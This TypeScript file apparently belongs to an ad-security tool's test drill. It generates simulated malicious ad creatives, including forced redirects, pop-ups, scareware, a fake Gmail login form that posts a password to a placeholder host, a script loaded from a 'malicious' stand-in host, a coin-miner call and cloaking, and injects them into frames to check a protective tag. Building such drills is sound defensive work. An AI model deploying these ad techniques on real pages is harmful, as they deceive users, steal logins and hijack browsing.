import { type DrillCaseName, drillCreativeId, drillKitNames } from '@vigil/contract'

/** Reserved names: these addresses lead nowhere. */
const stranger = (name: string) => `https://${name}.vigil-drill.example/`

/** How the ad reaches the page: as its own window on the drill's pages, from a frame elsewhere. */
type PageName = 'window' | 'top'

/** Loaded by the heavy ad. */
export const heavyPath = '/drill/heavy.bin'

const script = (code: string) => `<script>${code}</script>`
// The mark is still on the page afterwards if the ad got through.
const marked = (markup: string) => `<div data-drill-mark>${markup}</div>`

const ads: Record<DrillCaseName, (page: PageName) => string> = {
  // A document with an opaque origin has no navigation events. There the drill redirects by markup, after ten minutes.
  redirect: (page) =>
    page === 'top'
      ? script(`top.location.href = '${stranger('prize')}'`)
      : `<meta data-drill-mark http-equiv="refresh" content="600;url=${stranger('prize')}">`,
  'pop-up': () => script(`window.open('${stranger('pop')}')`),
  scareware: () => marked('<b>WARNING!</b> Your phone has been infected with (13) viruses. Clean it now.'),
  'alert-loop': () => script(`for (let at = 0; at < 3; at++) alert('Your prize is waiting')`),
  download: () =>
    `<a id="drill-file" download="drill.exe" href="data:application/octet-stream;base64,RHJpbGw=">File</a>${script("document.getElementById('drill-file').click()")}`,
  'made-click': () =>
    `<a id="drill-link" href="${stranger('shop')}">Shop</a>${script("document.getElementById('drill-link').click()")}`,
  'hidden-frame': () =>
    `<iframe data-drill-frame src="${stranger('ads')}serve?slot=1" width="1" height="1" style="border:0"></iframe>`,
  miner: () => script("new CoinHive.Anonymous('drill').start()"),
  cloak: () =>
    marked(
      script(
        `if (navigator.webdriver === 'drill') { document.body.dataset.to = 1; location.href = '${stranger('x')}' }`,
      ),
    ),
  // Only the form is removed.
  phishing: () =>
    `<form data-drill-mark action="${stranger('login')}"><p>Your Gmail mailbox is full. Sign in to keep it.</p><input type="password" name="password"></form>`,
  'push-prompt': () => script('Notification.requestPermission()'),
  'back-button': (page) => script(`for (let at = 0; at < 10; at++) ${page}.history.pushState({}, '', '#drill-' + at)`),
  typing: (page) => script(`${page}.document.addEventListener('keydown', function () {})`),
  'bad-host': () => `<script data-drill-script src="${stranger('malicious')}drill.js"></script>`,
  sound: () => script(`new Audio('${tone()}').play().catch(function () {})`),
  clipboard: () =>
    `<textarea id="drill-text" rows="1">Vigil drill</textarea>${script("document.getElementById('drill-text').select(); document.execCommand('copy')")}`,
  'full-screen': (page) => script(`${page}.document.documentElement.requestFullscreen().catch(function () {})`),
  'heavy-ad': () =>
    `<p>A film</p>${script(`fetch('${heavyPath}').then((film) => film.arrayBuffer()).then((film) => { if (film.byteLength > 4e6) frameElement.dataset.drillMark = '' })`)}`,
}

/** A quiet tone of 0.1 s, as a WAV file. */
function tone() {
  const rate = 8_000
  const samples = Uint8Array.from(
    { length: rate / 10 },
    (_, at) => 128 + 12 * Math.sin((2 * Math.PI * 440 * at) / rate),
  )
  const header = Buffer.alloc(44)
  header.write('RIFF', 0)
  header.writeUInt32LE(36 + samples.length, 4)
  header.write('WAVEfmt ', 8)
  header.writeUInt32LE(16, 16)
  header.writeUInt16LE(1, 20)
  header.writeUInt16LE(1, 22)
  header.writeUInt32LE(rate, 24)
  header.writeUInt32LE(rate, 28)
  header.writeUInt16LE(1, 32)
  header.writeUInt16LE(8, 34)
  header.write('data', 36)
  header.writeUInt32LE(samples.length, 40)
  return `data:audio/wav;base64,${Buffer.concat([header, samples]).toString('base64')}`
}

/** The ad's markup as an exchange delivers it, with Prebid's comment that names the creative. */
export function drillAd(name: DrillCaseName, run: string, page: PageName) {
  const ids = new URLSearchParams({ creativeId: drillCreativeId(name, run), bidderCode: 'vigil-drill' })
  return `<!-- pbad://${ids} -->${ads[name](page)}`
}

/** JSON for an inline script: it must not close the script element. */
export const inScript = (value: unknown) => JSON.stringify(value).replaceAll('<', '\\u003c')

/** Runs the ads on a publisher's own page, each in a frame in an ad slot. */
export function drillKit(run: string) {
  // The redirect runs last: if it gets through, the page is gone.
  const names = [...drillKitNames].sort((a, b) => Number(a === 'redirect') - Number(b === 'redirect'))
  const list = names.map((name) => ({ name, markup: drillAd(name, run, 'top') }))
  return `(() => {
  if (!window[Symbol.for('vigil.ad')]) return console.warn('Vigil drill: no tag protects this page. Nothing was run.')
  const ads = ${inScript(list)}
  let slot
  const next = () => {
    slot?.remove()
    const ad = ads.shift()
    if (!ad) return console.info('Vigil drill: done. The results are in the dashboard.')
    console.info('Vigil drill: ' + ad.name)
    // One slot per ad, as on a real page.
    slot = Object.assign(document.createElement('div'), { id: 'ad-slot-drill-' + ad.name })
    const frame = Object.assign(document.createElement('iframe'), { width: 300, height: 250 })
    document.body.append(slot)
    slot.append(frame)
    frame.contentDocument.write(ad.markup)
    frame.contentDocument.close()
    setTimeout(next, 900)
  }
  // For some seconds a line in the console counts as a click, and a click allows what follows.
  setTimeout(next, navigator.userActivation?.isActive ? 6000 : 0)
})()
`
}
